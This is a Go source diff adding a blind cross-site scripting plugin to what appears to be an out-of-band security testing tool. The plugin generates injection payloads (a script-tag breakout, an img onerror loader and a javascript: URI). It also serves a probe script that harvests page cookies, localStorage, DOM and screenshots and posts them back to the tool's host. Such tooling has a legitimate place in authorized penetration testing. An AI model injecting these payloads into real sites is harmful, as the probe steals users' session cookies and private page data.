@@ -0,0 +1,213 @@
+// Package blindxss implements a feature plugin that serves a JavaScript probe
+// for blind cross-site scripting and records what it reports back.
+package blindxss
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"strings"
+
+	"go.uber.org/zap"
+
+	"github.com/rsclarke/oastrix/internal/plugins"
+	"github.com/rsclarke/oastrix/pkg/events"
+)
+
+// ID is the plugin identifier.
+const ID = "blindxss"
+
+// DefaultPath is where the probe is served when no path is configured.
+const DefaultPath = "/bx.js"
+
+// CaptureAttribute holds the Capture reported by a probe.
+const CaptureAttribute = "blindxss"
+
+// maxDOM is the number of characters of the page's HTML the probe reports.
+const maxDOM = 256 << 10
+
+// Capture is what the probe reports about the page it ran in. Cookies are
+// only those visible to script, i.e. not HttpOnly.
+type Capture struct {
+	URL          string `json:"url,omitempty"`
+	Origin       string `json:"origin,omitempty"`
+	Referrer     string `json:"referrer,omitempty"`
+	Title        string `json:"title,omitempty"`
+	UserAgent    string `json:"user_agent,omitempty"`
+	Cookies      string `json:"cookies,omitempty"`
+	LocalStorage string `json:"local_storage,omitempty"`
+	DOM          string `json:"dom,omitempty"`
+	Screenshot   string `json:"screenshot,omitempty"` // data:image/... URL
+}
+
+// Plugin serves the probe for GET requests to Path under any token's host.
+// The probe POSTs a Capture back to the same URL, which is recorded on that
+// interaction in the CaptureAttribute attribute. Its Priority runs it before
+// other plugins that handle responses.
+type Plugin struct {
+	// Path is where the probe is served and captures are received.
+	Path string
+	// ScreenshotScript, if set, is the URL of an html2canvas build the probe
+	// loads to include a screenshot of the page.
+	ScreenshotScript string
+
+	logger *zap.Logger
+}
+
+// New creates a new blindxss Plugin serving the probe at DefaultPath.
+func New() *Plugin {
+	return &Plugin{Path: DefaultPath}
+}
+
+// ID returns the plugin identifier.
+func (p *Plugin) ID() string { return ID }
+
+// Priority serves the probe ahead of any per-token response.
+func (p *Plugin) Priority() int { return 50 }
+
+// Init initializes the plugin with the given context.
+func (p *Plugin) Init(ctx plugins.InitContext) error {
+	p.logger = ctx.Logger.Named(ID)
+	if !strings.HasPrefix(p.Path, "/") {
+		return fmt.Errorf("probe path %q must begin with /", p.Path)
+	}
+	return nil
+}
+
+// Config returns the plugin's settings.
+func (p *Plugin) Config() map[string]any {
+	return map[string]any{
+		"path":              p.Path,
+		"screenshot_script": p.ScreenshotScript,
+	}
+}
+
+// Payloads returns snippets that load the probe from the token's host.
+func (p *Plugin) Payloads(ctx plugins.PayloadContext) []plugins.Payload {
+	src := "https://" + ctx.Token + "." + ctx.Domain + p.Path
+	loader := fmt.Sprintf(`var s=document.createElement('script');s.src='%s';document.body.appendChild(s)`, src)
+	return []plugins.Payload{
+		{Name: "blindxss_script", Category: "xss", Description: "Blind XSS probe reporting the page, cookies and DOM", Value: fmt.Sprintf(`"><script src="%s"></script>`, src)},
+		{Name: "blindxss_img", Category: "xss", Description: "Blind XSS probe loaded from an image error handler", Value: fmt.Sprintf(`"><img src=x onerror="%s">`, loader)},
+		{Name: "blindxss_javascript_uri", Category: "xss", Description: "Blind XSS probe as a javascript: URI", Value: "javascript:" + loader},
+	}
+}
+
+// OnPreStore records the Capture carried by a probe's report.
+func (p *Plugin) OnPreStore(_ context.Context, e *events.Event) error {
+	h := e.Draft.HTTP
+	if e.Draft.Drop || h == nil || h.Method != http.MethodPost || !p.isProbePath(e.Draft) {
+		return nil
+	}
+
+	var c Capture
+	if err := json.Unmarshal(h.Body, &c); err != nil {
+		p.logger.Debug("ignoring malformed capture", zap.Error(err))
+		return nil
+	}
+	if c.Screenshot != "" && !strings.HasPrefix(c.Screenshot, "data:image/") {
+		c.Screenshot = ""
+	}
+	if c == (Capture{}) {
+		return nil
+	}
+
+	if e.Draft.Attributes == nil {
+		e.Draft.Attributes = make(map[string]any)
+	}
+	e.Draft.Attributes[CaptureAttribute] = c
+	return nil
+}
+
+// OnHTTPResponse serves the probe and acknowledges its reports.
+func (p *Plugin) OnHTTPResponse(_ context.Context, e *events.HTTPEvent) error {
+	if e.Resp == nil || e.Resp.Handled || e.Draft == nil || e.Draft.HTTP == nil || !p.isProbePath(e.Draft) {
+		return nil
+	}
+	if e.Resp.Headers == nil {
+		e.Resp.Headers = make(map[string]string)
+	}
+
+	switch e.Draft.HTTP.Method {
+	case http.MethodGet, http.MethodHead:
+		e.Resp.Status = http.StatusOK
+		e.Resp.Headers["Content-Type"] = "application/javascript"
+		e.Resp.Headers["Cache-Control"] = "no-store"
+		e.Resp.Body = []byte(p.probe(reportURL(e.Draft)))
+	case http.MethodPost:
+		e.Resp.Status = http.StatusNoContent
+		e.Resp.Headers["Access-Control-Allow-Origin"] = "*"
+		e.Resp.Body = nil
+	default:
+		return nil
+	}
+	e.Resp.Handled = true
+	return nil
+}
+
+// isProbePath reports whether the request is for the probe, directly under
+// the token's host or under the /oast/<token> prefix used by IP address.
+func (p *Plugin) isProbePath(d *events.InteractionDraft) bool {
+	path := d.HTTP.Path
+	return path == p.Path || path == "/oast/"+d.TokenValue+p.Path
+}
+
+// reportURL returns the URL the probe was fetched from, which it reports to.
+func reportURL(d *events.InteractionDraft) string {
+	scheme := d.HTTP.Scheme
+	if scheme == "" {
+		scheme = "https"
+	}
+	return scheme + "://" + d.HTTP.Host + d.HTTP.Path
+}
+
+// probe returns the probe script reporting to url.
+func (p *Plugin) probe(url string) string {
+	send := "send();"
+	if p.ScreenshotScript != "" {
+		send = fmt.Sprintf(screenshotJS, jsString(p.ScreenshotScript))
+	}
+	return fmt.Sprintf(probeJS, jsString(url), maxDOM, send)
+}
+
+// jsString returns s as a JavaScript string literal.
+func jsString(s string) string {
+	b, _ := json.Marshal(s)
+	return string(b)
+}
+
+const probeJS = `(function () {
+  var u = %s;
+  var d = {
+    url: location.href,
+    origin: location.origin,
+    referrer: document.referrer,
+    title: document.title,
+    user_agent: navigator.userAgent,
+    cookies: document.cookie,
+    dom: document.documentElement ? document.documentElement.outerHTML.slice(0, %d) : ""
+  };
+  try { d.local_storage = JSON.stringify(localStorage).slice(0, 65536); } catch (e) {}
+  function send() {
+    try {
+      var x = new XMLHttpRequest();
+      x.open("POST", u, true);
+      x.setRequestHeader("Content-Type", "text/plain");
+      x.send(JSON.stringify(d));
+    } catch (e) {}
+  }
+  %s
+})();
+`
+
+const screenshotJS = `var s = document.createElement("script");
+  s.src = %s;
+  s.onload = function () {
+    html2canvas(document.body).then(function (c) {
+      d.screenshot = c.toDataURL("image/jpeg", 0.5);
+      send();
+    }, send);
+  };
+  s.onerror = send;
+  (document.head || document.documentElement).appendChild(s);`